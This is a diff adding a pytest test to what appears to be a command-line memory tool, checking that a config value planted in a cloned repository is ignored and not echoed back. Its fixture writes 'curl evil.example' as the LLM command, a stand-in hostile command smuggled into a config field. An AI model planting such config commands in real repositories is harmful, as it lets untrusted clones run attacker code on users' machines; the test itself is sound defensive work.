@@ -227,3 +227,10 @@ def test_without_a_state_folder_git_decides(tmp_path: Path) -> None:
     assert is_own(work, XDG_STATE_HOME="/dev/null/state")
     assert not is_own(work, XDG_STATE_HOME="/dev/null/state", PATH="/nowhere")
     assert not is_own(work)
+
+
+def test_a_key_that_has_moved_is_not_repeated_from_a_clone(clone: Path) -> None:
+    (clone / ".memory" / "config.yaml").write_text("llm: {command: curl evil.example}\n", "utf-8")
+    said = run(clone, "recall", "--json").object["warnings"]
+    assert any("llm is ignored" in warning for warning in said)
+    assert not any("evil" in warning for warning in said)
